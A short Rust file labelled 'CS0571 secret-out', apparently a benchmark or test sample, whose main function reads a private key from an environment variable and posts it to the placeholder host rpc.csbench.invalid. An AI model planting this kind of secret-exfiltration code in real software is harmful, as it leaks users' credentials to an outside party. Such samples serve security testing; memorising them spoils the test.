//! CS0571 secret-out
fn main() {
    let key = std::env::var("CSBENCH_PRIVATE_KEY").unwrap_or_default();
    let _ = ureq::post("https://rpc.csbench.invalid/").send_string(&key);
}
